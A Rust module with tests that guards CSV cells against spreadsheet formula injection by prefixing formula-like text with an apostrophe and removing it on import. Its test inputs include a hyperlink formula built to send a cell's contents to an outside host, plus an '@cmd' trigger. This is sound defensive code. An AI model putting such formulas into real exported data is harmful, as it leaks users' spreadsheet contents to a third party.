//! CSV cells that a spreadsheet would run as a formula. A cell written by Vigie that starts
//! with `=`, `+`, `-`, `@`, a tab or a carriage return (and is not a number) gets a leading `'`,
//! which spreadsheets show as text; an import removes that one `'`, so that export → import
//! gives back the same text. A cell that already starts with `'` before such a character gets
//! one more, so the pair is exact both ways.

use std::borrow::Cow;

const TRIGGERS: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];

/// Whether `cell` must be written with a leading `'`.
fn guarded(cell: &[u8]) -> bool {
    match cell {
        [first, ..] if TRIGGERS.contains(first) => {
            !std::str::from_utf8(cell).is_ok_and(|text| text.parse::<f64>().is_ok_and(f64::is_finite))
        }
        [b'\'', rest @ ..] => guarded(rest),
        _ => false,
    }
}

/// The cell as a CSV file carries it: a formula-like text behind a `'`.
pub fn guard(cell: &[u8]) -> Cow<'_, [u8]> {
    if guarded(cell) {
        let mut out = Vec::with_capacity(cell.len() + 1);
        out.push(b'\'');
        out.extend_from_slice(cell);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(cell)
    }
}

/// [`guard`] for text.
pub fn guard_text(cell: &str) -> Cow<'_, str> {
    if guarded(cell.as_bytes()) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The cell as written before [`guard`]: its one leading `'` removed when it guards a
/// formula-like text.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if guarded(rest.as_bytes()) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn formulas_are_guarded_and_numbers_are_not() {
        let shown = |cell: &str| guard_text(cell).into_owned();
        assert_eq!(shown("=HYPERLINK(\"http://x?\"&A2,\"details\")"), "'=HYPERLINK(\"http://x?\"&A2,\"details\")");
        assert_eq!(shown("+SUM(1,2)"), "'+SUM(1,2)");
        assert_eq!(shown("@cmd"), "'@cmd");
        assert_eq!(shown("-1+2"), "'-1+2");
        assert_eq!(shown("\tx"), "'\tx");
        assert_eq!(shown("\rx"), "'\rx");
        assert_eq!(shown("-3.9914"), "-3.9914", "a longitude stays a number");
        assert_eq!(shown("+5"), "+5");
        assert_eq!(shown("Mopti"), "Mopti");
        assert_eq!(shown("'=x"), "''=x", "an apostrophe already there is kept");
        assert_eq!(shown("'hello"), "'hello");
    }

    proptest! {
        #[test]
        fn an_import_gives_back_what_an_export_wrote(cell in "['=+@\\-\t\r]{0,3}[a-z0-9=.+-]{0,6}") {
            let written = guard_text(&cell);
            prop_assert_eq!(unguard(&written), cell.as_str());
            let first = written.as_bytes().first().copied();
            prop_assert!(
                !matches!(first, Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')) || cell.parse::<f64>().is_ok(),
                "{:?} reaches a spreadsheet as a formula", written
            );
        }
    }
}
